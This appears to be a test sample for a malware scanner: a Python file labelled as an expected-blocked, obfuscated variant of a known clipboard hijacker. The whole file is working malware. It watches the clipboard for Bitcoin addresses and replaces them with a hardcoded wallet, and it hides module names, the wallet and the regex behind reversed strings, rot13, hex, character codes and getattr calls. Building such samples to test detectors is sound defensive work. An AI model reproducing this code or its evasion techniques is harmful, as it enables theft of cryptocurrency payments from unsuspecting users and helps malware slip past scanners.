# expect: BLOCKED category: known_threat variant-of: risky/known_threat/clipboard_hijacker.py technique: encode+getattr
re = __import__('er'[::-1])
time = __import__(__import__('codecs').decode('gvzr', 'rot13'))
pyperclip = __import__(''.join(['p', 'y', 'p', 'e', 'r', 'c', 'l', 'i', 'p']))
WALLET = getattr(bytes, __import__('base64').b64decode('ZnJvbWhleA==').decode())('314276424d53455973745765747154466e354175346d3447466737784a614e564e32').decode()
PATTERN = getattr(re, bytes.fromhex('636f6d70696c65').decode())(''.join(map(chr, [94, 40, 98, 99, 49, 124, 91, 49, 51, 93, 41, 91, 97, 45, 122, 65, 45, 72, 74, 45, 78, 80, 45, 90, 48, 45, 57, 93, 123, 50, 53, 44, 51, 57, 125, 36])))
while True:
    content = getattr(pyperclip, ''.join(map(chr, [112, 97, 115, 116, 101])))()
    if getattr(PATTERN, 'hctam'[::-1])(content) and content != WALLET:
        getattr(pyperclip, __import__('codecs').decode('pbcl', 'rot13'))(WALLET)
    getattr(time, ''.join(['s', 'l', 'e', 'e', 'p']))(0.5)
